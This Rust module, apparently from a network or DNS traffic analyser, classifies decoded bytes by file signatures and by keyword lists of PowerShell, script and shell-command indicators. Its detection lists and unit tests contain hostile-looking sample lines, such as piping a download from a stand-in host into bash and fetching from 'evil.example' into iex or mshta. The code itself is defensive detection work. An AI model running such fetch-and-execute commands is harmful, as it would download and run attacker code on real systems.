//! What bytes or a text are, by their first bytes or by words that only such a text has.

use std::sync::OnceLock;

use aho_corasick::AhoCorasick;
use infer::{app, archive, image};

/// What a text makes a computer do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExecutableKind {
    PowerShell,
    Script,
    Command,
}

impl ExecutableKind {
    /// The name that stands before the decoded text.
    pub fn name(self) -> &'static str {
        match self {
            Self::PowerShell => "PowerShell",
            Self::Script => "script",
            Self::Command => "command",
        }
    }

    /// The name in a sentence.
    pub fn with_article(self) -> &'static str {
        match self {
            Self::PowerShell => "PowerShell",
            Self::Script => "a script",
            Self::Command => "a command",
        }
    }
}

/// What decoded bytes are.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Content {
    Text,
    Json,
    SshBanner,
    Executable(ExecutableKind),
    /// Bytes that are not text but hold the words of a command.
    BytesWith(ExecutableKind),
    BytesWithSshBanner,
    /// Bytes that are not text but hold readable characters, more than chance puts side by side.
    BytesWithText,
    Elf,
    Pe,
    Gzip,
    Zip,
    /// A kind of file, by its usual extension.
    File(&'static str),
}

impl Content {
    /// The name in `txt_decoded` and in explanations.
    pub fn name(self) -> &'static str {
        match self {
            Self::Text => "text",
            Self::Json => "JSON",
            Self::SshBanner => "SSH banner",
            Self::Executable(kind) => kind.name(),
            Self::BytesWith(ExecutableKind::PowerShell) => "bytes with PowerShell",
            Self::BytesWith(ExecutableKind::Script) => "bytes with a script",
            Self::BytesWith(ExecutableKind::Command) => "bytes with a command",
            Self::BytesWithSshBanner => "bytes with SSH banner",
            Self::BytesWithText => "bytes with text",
            Self::Elf => "ELF",
            Self::Pe => "PE",
            Self::Gzip => "gzip",
            Self::Zip => "zip",
            Self::File(extension) => extension,
        }
    }
}

/// Bytes as text, if people can read them: UTF-8, or the UTF-16 of PowerShell's encoded commands, in either byte order.
pub fn as_text(bytes: &[u8]) -> Option<String> {
    // A DNS string ends after 255 bytes, perhaps in the middle of a character.
    let utf8 = match std::str::from_utf8(bytes) {
        Ok(text) => Some(text),
        Err(error) if error.error_len().is_none() => bytes.get(..error.valid_up_to()).and_then(|bytes| std::str::from_utf8(bytes).ok()),
        Err(_) => None,
    };
    let text = match utf8 {
        Some(text) if !bytes.contains(&0) => text.to_owned(),
        _ => {
            const ORDER_MARKS: [[u8; 2]; 2] = [[0xff, 0xfe], [0xfe, 0xff]];
            let (pairs, _) = bytes.as_chunks::<2>();
            let pairs = pairs.split_first().filter(|(first, _)| ORDER_MARKS.contains(first)).map_or(pairs, |(_, rest)| rest);
            let latin = |byte: fn(&[u8; 2]) -> u8| pairs.iter().filter(|pair| byte(pair) == 0).count().saturating_mul(10);
            let enough = pairs.len().saturating_mul(8);
            let from: fn([u8; 2]) -> u16 = match (latin(|pair| pair[1]) >= enough, latin(|pair| pair[0]) >= enough) {
                _ if pairs.len() < 4 => return None,
                (true, _) => u16::from_le_bytes,
                (_, true) => u16::from_be_bytes,
                _ => return None,
            };
            String::from_utf16(&pairs.iter().map(|pair| from(*pair)).collect::<Vec<_>>()).ok()?
        }
    };
    let all = text.chars().count();
    let control = text.chars().filter(|c| c.is_control() && !c.is_whitespace()).count();
    // Few bytes are letters of some script by chance.
    let min = if text.is_ascii() { 4 } else { 10 };
    (all >= min && control <= all / 20).then_some(text)
}

/// Words that occur in PowerShell and not in prose, in lower case.
const POWERSHELL: &[&str] = &[
    "powershell",
    "pwsh",
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-command",
    "invoke-item",
    "new-object",
    "frombase64string",
    "tobase64string",
    "downloadstring",
    "iex(",
    "iex (",
    "iex $",
    "|iex",
    "| iex",
    "irm http",
    "iwr http",
    "iwr -",
    "$env:",
    "$global:",
    "-encodedcommand",
    "start-sleep",
    "out-string",
    "[system.",
    "foreach-object",
    "-executionpolicy",
    "-exec bypass",
];
const SCRIPT: &[&str] =
    &["<script", "function(", "eval(", "wscript", "createobject(", "import os;", "import os,", "import socket", "require('", "require(\""];
const COMMAND: &[&str] = &[
    "cmd.exe",
    "cmd /c",
    "/bin/",
    "/dev/tcp/",
    "/etc/",
    "curl -",
    "curl http",
    "curl $",
    "wget -",
    "wget http",
    "wget $",
    "chmod +",
    "chmod 7",
    "rundll32",
    "regsvr32",
    "certutil",
    "mshta",
    "bitsadmin",
    "schtasks",
    "cscript",
    "msiexec",
    "wmic ",
    "whoami",
    "ipconfig",
    "net localgroup",
    "nslookup -",
    "uname -",
    "|bash",
    "| bash",
    "|sh",
    "| sh",
    "python -c",
    "python3 -c",
    "perl -e",
    "php -r",
    "${jndi:",
];

/// The words of each kind, in the order in which the kinds are tried.
pub const EXECUTABLE_WORDS: [(ExecutableKind, &[&str]); 3] =
    [(ExecutableKind::PowerShell, POWERSHELL), (ExecutableKind::Script, SCRIPT), (ExecutableKind::Command, COMMAND)];

/// All words, so that one pass over a text finds them.
struct Words {
    searcher: AhoCorasick,
    /// The kind of each word, as an index of [`EXECUTABLE_WORDS`], and the word.
    words: Vec<(usize, &'static str)>,
}

fn words() -> Option<&'static Words> {
    static WORDS: OnceLock<Option<Words>> = OnceLock::new();
    let build = || {
        let words: Vec<_> =
            EXECUTABLE_WORDS.iter().enumerate().flat_map(|(kind, (_, words))| words.iter().map(move |word| (kind, *word))).collect();
        // It fails only for millions of words; a test of the words would show it.
        let searcher = AhoCorasick::builder().ascii_case_insensitive(true).build(words.iter().map(|(_, word)| word)).ok()?;
        Some(Words { searcher, words })
    };
    WORDS.get_or_init(build).as_ref()
}

/// What a text makes a computer do, or `None` if it has no such word.
pub fn executable_kind(text: &str) -> Option<ExecutableKind> {
    let Words { searcher, words } = words()?;
    let mut first: Option<usize> = None;
    for found in searcher.find_overlapping_iter(text) {
        let Some((kind, word)) = words.get(found.pattern().as_usize()) else { continue };
        if first.is_none_or(|first| *kind < first) && stands_alone(text, word, found.start()) {
            first = Some(*kind);
            if *kind == 0 {
                break;
            }
        }
    }
    EXECUTABLE_WORDS.get(first?).map(|(kind, _)| *kind)
}

/// Whether a word stands alone: not part of `firm`, of `| show`, of a host name, or of a path in the middle of a URL.
fn stands_alone(text: &str, word: &str, at: usize) -> bool {
    let (before, after) = (text.get(..at).unwrap_or_default(), text.get(at.saturating_add(word.len())..).unwrap_or_default());
    let joined_before = before.chars().next_back().is_some_and(|c| match word.chars().next() {
        Some('/') => c.is_alphanumeric() || "./-_".contains(c),
        Some(first) if first.is_ascii_alphanumeric() => c.is_alphanumeric() || "./-_@".contains(c),
        _ => false,
    });
    let ends_as_word = word.ends_with(|c: char| c.is_ascii_alphanumeric()) && !word.ends_with("http");
    let begins = |rest: &str| after.get(1..=rest.len()).is_some_and(|after| after.eq_ignore_ascii_case(rest));
    let joined_after = after.chars().next().is_some_and(|c| match c {
        '.' => !["exe", "shell", " "].into_iter().any(begins) && after.len() > 1,
        _ => c.is_alphanumeric() || "-_@".contains(c),
    });
    !(joined_before || ends_as_word && joined_after)
}

/// What a text is.
pub fn content_of_text(text: &str) -> Content {
    if text.starts_with("SSH-") {
        Content::SshBanner
    } else if text.starts_with("#!") {
        Content::Executable(ExecutableKind::Script)
    } else if text.starts_with(['{', '[']) && serde_json::from_str::<serde_json::Value>(text).is_ok() {
        Content::Json
    } else {
        executable_kind(text).map_or(Content::Text, Content::Executable)
    }
}

type HasSignature = fn(&[u8]) -> bool;

/// Kinds of files by a signature of three bytes or more, since tokens begin with any two bytes by chance. `ole` is the compound
/// file of installers and of old office documents.
const FILES: [(&str, HasSignature); 13] = [
    ("pdf", archive::is_pdf),
    ("png", image::is_png),
    ("jpg", image::is_jpeg),
    ("gif", image::is_gif),
    ("7z", archive::is_7z),
    ("rar", archive::is_rar),
    ("xz", archive::is_xz),
    ("zst", archive::is_zst),
    ("cab", archive::is_cab),
    ("wasm", app::is_wasm),
    ("sqlite", archive::is_sqlite),
    ("rtf", archive::is_rtf),
    ("ole", archive::is_msi),
];

/// What bytes are that are not text.
pub fn content_of_bytes(bytes: &[u8]) -> Option<Content> {
    match bytes {
        [b'M', b'Z', b'P' | 0x90, 0, ..] => Some(Content::Pe),
        [b'M', b'Z', ..] if bytes.len() >= 64 => Some(Content::Pe),
        [0x7f, b'E', b'L', b'F', ..] => Some(Content::Elf),
        [0x1f, 0x8b, 8, ..] => Some(Content::Gzip),
        [b'P', b'K', 3, 4, ..] => Some(Content::Zip),
        [b'S', b'S', b'H', b'-', ..] => Some(Content::SshBanner),
        _ => {
            let file = FILES.iter().find(|(_, begins)| begins(bytes)).map(|(extension, _)| Content::File(extension));
            file.or_else(|| with_words(bytes)).or_else(|| readable_part(bytes).map(|_| Content::BytesWithText))
        }
    }
}

/// Bytes of decoded bytes that are examined for words, since about sixteen decodings of a text are.
const MAX_SEARCHED_BYTES: usize = 4 << 10;

/// The longest part of bytes that people can read, if chance does not explain it: eight of 21 bytes are readable, so 12 in a row
/// after a short header to the end, or 16 anywhere.
pub fn readable_part(bytes: &[u8]) -> Option<&str> {
    const MAX_HEADER_BYTES: usize = 12;
    let bytes = bytes.get(..MAX_SEARCHED_BYTES).unwrap_or(bytes);
    let is_readable = |byte: &u8| matches!(byte, b' '..=b'~' | b'\t' | b'\r' | b'\n');
    let longest = bytes.chunk_by(|one, next| is_readable(one) == is_readable(next)).filter(|part| part.iter().all(is_readable));
    let longest = longest.max_by_key(|part| part.len())?;
    let to_the_end = bytes.ends_with(longest) && bytes.len().saturating_sub(longest.len()) <= MAX_HEADER_BYTES;
    let min = if to_the_end { 12 } else { 16 };
    std::str::from_utf8(longest).ok().filter(|part| part.len() >= min)
}

/// The readable characters of bytes, with spaces in place of the others.
pub fn readable(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| if matches!(byte, b' '..=b'~') { char::from(*byte) } else { ' ' }).collect()
}

/// Bytes that are not text but hold a command, so that an escape or a zero byte in a command does not hide it.
fn with_words(bytes: &[u8]) -> Option<Content> {
    let bytes = bytes.get(..MAX_SEARCHED_BYTES).unwrap_or(bytes);
    if memchr::memmem::find(bytes, b"SSH-2.0-").is_some() {
        return Some(Content::BytesWithSshBanner);
    }
    executable_kind(&readable(bytes)).map(Content::BytesWith)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_stand_alone() {
        for (text, expected) in [
            ("curl -fsSL http://203.0.113.5/i.sh | bash", Some("command")),
            ("mshta evil.example/x.mp3 # I am not a robot", Some("command")),
            ("irm evil.example/a|iex", Some("PowerShell")),
            ("CreateObject(\"WScript.Shell\").Run \"calc\"", Some("script")),
            ("our firm is here | show more", None),
            ("v=spf1 include:curly.example -all", None),
            ("we mandate reimport osmosis", None),
            ("root:x:0:0:root:/root:/bin/bash", Some("command")),
            ("C:\\Windows\\System32\\cmd.exe /c dir", Some("command")),
            ("certutil.exe -urlcache", Some("command")),
            // Found in review: names of hosts, paths of addresses and prose were commands.
            ("v=spf1 include:powershell.example -all", None),
            ("v=BIMI1; l=https://example.com/bin/logo.svg; a=", None),
            ("dnslink=/ipns/example.com/etc/x", None),
            ("heritage=external-dns,external-dns/owner=a,external-dns/resource=service/cscript", None),
            ("Blocked - see https://lists.example.org/etc/lookup?192.0.2.4", None),
            ("We curl hair", None),
            ("irm ok", None),
            ("my require(s) docs", None),
            ("invoke-billing=123", None),
        ] {
            assert_eq!(executable_kind(text).map(ExecutableKind::name), expected, "{text}");
        }
    }

    #[test]
    fn headers_of_programs_are_short() {
        assert_eq!(content_of_bytes(b"MZ\x90\0\x03\0\0\0"), Some(Content::Pe));
        assert_eq!(content_of_bytes(b"\x7fELF\x02"), Some(Content::Elf));
        assert_eq!(content_of_bytes(b"MZabcdefgh"), None);
        assert_eq!(content_of_bytes(b"\0\x01\x02/bin/sh -i\0"), Some(Content::BytesWith(ExecutableKind::Command)));
    }
}
